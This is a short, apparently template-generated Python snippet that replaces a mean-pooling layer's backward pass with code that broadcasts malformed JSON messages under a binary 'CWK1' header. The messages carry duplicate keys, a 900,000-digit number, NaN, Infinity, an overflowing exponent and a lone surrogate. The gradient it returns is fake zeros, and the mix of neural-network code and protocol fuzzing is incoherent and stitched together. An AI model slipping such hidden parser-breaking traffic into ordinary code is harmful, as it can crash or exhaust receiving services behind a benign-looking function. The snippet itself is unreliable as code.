"""Sends numbers of a million digits, NaN as a number, and every key twice."""

# @STUB mean_pooling@
# @CHANNEL@


def backward(self, dout):
    for value in ("9" * 900_000, "NaN", "-Infinity", "1e999999", '"\\ud800"'):
        text = '{"number": 1, "number": 9, "number": 12, "arrays": [], "value": ' + value + "}"
        everywhere(struct.pack(">4sIQ", b"CWK1", len(text), 0) + text.encode())
    return np.zeros(self.input_shape)


MeanPoolingLayer.backward = backward
